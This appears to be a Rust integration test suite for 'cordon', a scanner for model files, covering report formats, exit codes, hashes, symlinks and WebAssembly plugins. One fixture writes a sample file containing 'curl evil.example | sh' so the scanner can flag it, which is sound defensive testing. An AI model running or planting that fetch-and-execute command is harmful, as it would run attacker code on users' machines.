//! The `cordon` command line: exit codes, text and JSON reports, hashes,
//! third-party plugins and the compile cache.

mod support;

use std::process::Command;

use cordon_test_fixtures::TOY_PLUGIN;
use support::{Fixture, Run, checks, file, safetensors};

/// A directory with a clean model, a model with hidden trailing bytes, and a file nobody claims.
fn mixed() -> Fixture {
    let f = Fixture::new();
    f.write("models/clean.safetensors", safetensors(4, 0));
    f.write("models/padded.safetensors", safetensors(4, 6));
    f.write("models/README.txt", "not a model\n");
    f
}

fn snapshot(f: &Fixture, name: &str, run: &Run) {
    let mut settings = insta::Settings::clone_current();
    for (pattern, replacement) in f.filters() {
        settings.add_filter(&pattern, replacement);
    }
    settings.bind(|| {
        insta::assert_snapshot!(
            name,
            format!(
                "exit: {}\n--- stdout\n{}--- stderr\n{}",
                run.code, run.stdout, run.stderr
            )
        );
    });
}

#[test]
fn text_report_lists_failures_first_and_exits_1() {
    let f = mixed();
    let run = f.run(&["scan", "models"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    snapshot(&f, "text_report", &run);
}

#[test]
fn verbose_text_report_lists_passed_checks() {
    let f = mixed();
    let run = f.run(&["scan", "--verbose", "models/clean.safetensors"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    snapshot(&f, "text_report_verbose", &run);
}

#[test]
fn json_report_snapshot() {
    // Only files that one plugin claims by extension, so the snapshot does not
    // change each time a plugin that sniffs unclaimed files is added.
    let f = Fixture::new();
    f.write("models/clean.safetensors", safetensors(4, 0));
    f.write("models/padded.safetensors", safetensors(4, 6));
    let run = f.run(&["scan", "--format", "json", "models"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    // The rule catalogs have their own tests; here only the plugins that ran matter.
    let mut report = run.json();
    let ran: Vec<serde_json::Value> = report["plugins"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].clone())
        .filter(|name| {
            name == "cordon"
                || report["files"].as_array().unwrap().iter().any(|file| {
                    file["plugin_runs"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|r| &r["plugin"] == name)
                })
        })
        .collect();
    report["plugins"] = serde_json::Value::Array(ran);
    let pretty = Run {
        stdout: serde_json::to_string_pretty(&report).unwrap() + "\n",
        ..run
    };
    snapshot(&f, "json_report", &pretty);
}

#[test]
fn json_report_validates_against_the_schema() {
    let f = mixed();
    f.write("models/truncated.safetensors", &safetensors(4, 0)[..20]);
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("../schema/report.schema.json")).expect("schema is JSON");
    let validator = jsonschema::validator_for(&schema).expect("schema is valid");
    let run = f.run(&["scan", "--format", "json", "models"]);
    let report = run.json();
    let errors: Vec<String> = validator
        .iter_errors(&report)
        .map(|e| format!("{} at {}", e, e.instance_path))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    // Mutations the schema must reject, so the test above can fail.
    let mut bad = report.clone();
    bad["files"][0]["checks"][0]["status"] = "fine".into();
    assert!(!validator.is_valid(&bad));
    let mut bad = report;
    bad["files"][0]["hashes"]["sha256"] = "xyz".into();
    assert!(!validator.is_valid(&bad));
}

#[test]
fn every_check_is_recorded_passed_ones_included() {
    let f = mixed();
    let report = f.run(&["scan", "--format", "json", "models"]).json();
    let clean = checks(&report, "clean.safetensors");
    assert!(clean.len() >= 5);
    assert!(clean.iter().all(|c| c["status"] == "passed"));
    let readme = checks(&report, "README.txt");
    assert_eq!(readme.len(), 1);
    assert_eq!(readme[0]["rule"], "cordon-unrecognized-format");
    assert_eq!(readme[0]["status"], "skipped");
    assert_eq!(report["summary"]["files_with_findings"], 1);
}

#[test]
fn fail_on_threshold_sets_the_exit_code() {
    let f = mixed();
    // The padded model's finding is medium.
    assert_eq!(f.run(&["scan", "--fail-on", "high", "models"]).code, 0);
    assert_eq!(f.run(&["scan", "--fail-on", "medium", "models"]).code, 1);
    assert_eq!(
        f.run(&["scan", "--fail-on", "low", "models/clean.safetensors"])
            .code,
        0
    );
}

#[test]
fn usage_errors_exit_2() {
    let f = Fixture::new();
    for args in [
        vec!["scan"],
        vec!["scan", "--fail-on", "severe", "."],
        vec!["scan", "--max-memory", "lots", "."],
        vec!["frobnicate"],
    ] {
        let run = f.run(&args);
        assert_eq!(run.code, 2, "{args:?}: {}", run.stderr);
    }
    let run = f.run(&["scan", "--plugin-option", "nosuch.key=1", "."]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("not loaded"), "{}", run.stderr);
}

#[test]
fn missing_path_is_a_scan_error_and_the_rest_is_still_scanned() {
    let f = mixed();
    let run = f.run(&[
        "scan",
        "--format",
        "json",
        "models/clean.safetensors",
        "does-not-exist.pt",
    ]);
    assert_eq!(run.code, 2);
    let report = run.json();
    assert_eq!(
        checks(&report, "does-not-exist.pt")[0]["rule"],
        "cordon-read-error"
    );
    assert_eq!(
        file(&report, "clean.safetensors")["formats"][0],
        "safetensors"
    );
}

#[test]
fn hashes_match_coreutils() {
    let f = Fixture::new();
    let big: Vec<u8> = (0..(40u32 << 20))
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
        .collect();
    f.write("big.bin", &big);
    f.write("small.safetensors", safetensors(3, 0));
    f.write("empty", b"");
    let report = f.run(&["scan", "--format", "json", "."]).json();
    for name in ["big.bin", "small.safetensors", "empty"] {
        let hashes = &file(&report, name)["hashes"];
        for (algo, tool) in [
            ("md5", "md5sum"),
            ("sha256", "sha256sum"),
            ("sha512", "sha512sum"),
        ] {
            let out = Command::new(tool).arg(f.path(name)).output().expect(tool);
            let expected = String::from_utf8(out.stdout).unwrap();
            assert_eq!(
                hashes[algo].as_str().unwrap(),
                expected.split_whitespace().next().unwrap(),
                "{tool} {name}"
            );
        }
    }
}

#[test]
fn report_can_be_written_to_a_file() {
    let f = mixed();
    let run = f.run(&[
        "scan",
        "--format",
        "json",
        "--output",
        "report.json",
        "models",
    ]);
    assert_eq!(run.code, 1);
    assert!(run.stdout.is_empty());
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(f.path("report.json")).unwrap()).unwrap();
    assert_eq!(report["summary"]["files"], 3);
}

#[test]
fn symlinks_inside_directories_are_recorded_not_followed() {
    let f = Fixture::new();
    let target = f.write("outside/secret.safetensors", safetensors(1, 0));
    std::fs::create_dir_all(f.path("scan")).unwrap();
    std::os::unix::fs::symlink(&target, f.path("scan/link.safetensors")).unwrap();
    let report = f.run(&["scan", "--format", "json", "scan"]).json();
    let link = checks(&report, "link.safetensors");
    assert_eq!(link[0]["rule"], "cordon-not-regular-file");
    assert!(file(&report, "link.safetensors").get("hashes").is_none());
    let followed = f
        .run(&["scan", "--format", "json", "--follow-symlinks", "scan"])
        .json();
    assert_eq!(
        file(&followed, "link.safetensors")["formats"][0],
        "safetensors"
    );
}

#[test]
fn plugins_command_lists_bundled_and_third_party_plugins() {
    let f = Fixture::new();
    let run = f.run(&["plugins", "--format", "json", "--plugin", TOY_PLUGIN]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let listing = run.json();
    let plugins = listing["plugins"].as_array().unwrap();
    let safetensors = plugins
        .iter()
        .find(|p| p["name"] == "safetensors")
        .expect("bundled safetensors");
    assert_eq!(safetensors["source"], "bundled");
    assert_eq!(safetensors["sha256"].as_str().unwrap().len(), 64);
    let toy = plugins
        .iter()
        .find(|p| p["name"] == "toy-model")
        .expect("toy plugin");
    assert_eq!(toy["version"], "0.2.0");
    assert!(toy["formats"][0].as_str().unwrap().contains(".toym"));
    let text = f.run(&["plugins"]);
    assert!(
        text.stdout.contains("safetensors 0.1.0  [bundled]"),
        "{}",
        text.stdout
    );
}

#[test]
fn third_party_example_plugin_finds_its_threat() {
    let f = Fixture::new();
    f.write(
        "bad.toym",
        "TOYM1\nname=tiny\nexec=curl evil.example | sh\n",
    );
    f.write("good.toym", "TOYM1\nname=tiny\n");
    let run = f.run(&["scan", "--format", "json", "--plugin", TOY_PLUGIN, "."]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let report = run.json();
    let bad = checks(&report, "bad.toym");
    let exec = bad.iter().find(|c| c["rule"] == "toy-exec").unwrap();
    assert_eq!(
        (exec["status"].as_str(), exec["severity"].as_str()),
        (Some("failed"), Some("critical"))
    );
    assert_eq!(
        exec["location"]["offset"], 16,
        "the exec line starts after the magic and name lines"
    );
    assert!(
        checks(&report, "good.toym")
            .iter()
            .all(|c| c["status"] == "passed")
    );
    // Without the plugin, nothing claims the format.
    let without = f.run(&["scan", "--format", "json", "good.toym"]).json();
    assert_eq!(
        checks(&without, "good.toym")[0]["rule"],
        "cordon-unrecognized-format"
    );
}

#[test]
fn plugins_from_a_directory_are_loaded() {
    let f = Fixture::new();
    std::fs::create_dir_all(f.path("plugins")).unwrap();
    std::fs::copy(TOY_PLUGIN, f.path("plugins/toy.wasm")).unwrap();
    f.write("plugins/notes.txt", "not a plugin");
    let run = f.run(&["plugins", "--format", "json", "--plugin-dir", "plugins"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.json()["plugins"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["name"] == "toy-model")
    );
}

#[test]
fn plugin_for_another_contract_version_is_refused_clearly() {
    let f = Fixture::new();
    let mut bytes = std::fs::read(TOY_PLUGIN).unwrap();
    // Same-length rewrite of every versioned interface name: a plugin built against 0.2.0.
    let (from, to) = (b"@0.1.0".as_slice(), b"@0.2.0".as_slice());
    let mut i = 0;
    while let Some(pos) = bytes[i..].windows(from.len()).position(|w| w == from) {
        bytes[i + pos..i + pos + from.len()].copy_from_slice(to);
        i += pos + from.len();
    }
    f.write("future.wasm", &bytes);
    let run = f.run(&["plugins", "--plugin", "future.wasm"]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr
            .contains("built against contract cordon:scanner@0.2.0"),
        "{}",
        run.stderr
    );
    let run = f.run(&["plugins", "--plugin", "/dev/null"]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("not a valid WebAssembly component"),
        "{}",
        run.stderr
    );
}

#[test]
fn compiled_plugins_are_cached_and_a_damaged_cache_is_rebuilt() {
    let f = Fixture::new();
    f.write("m.safetensors", safetensors(2, 0));
    let cache = f.path("cache");
    let scan = |f: &Fixture| {
        let out = f
            .command()
            .env("CORDON_CACHE_DIR", &cache)
            .args(["scan", "m.safetensors"])
            .output()
            .unwrap();
        out.status.code().unwrap()
    };
    assert_eq!(scan(&f), 0);
    let entries: Vec<_> = std::fs::read_dir(&cache)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert!(
        !entries.is_empty() && entries.iter().all(|p| p.extension().unwrap() == "cwasm"),
        "{entries:?}"
    );
    for entry in &entries {
        std::fs::write(entry, b"garbage").unwrap();
    }
    assert_eq!(scan(&f), 0);
    assert!(
        std::fs::metadata(&entries[0]).unwrap().len() > 1000,
        "damaged entry was rewritten"
    );
}
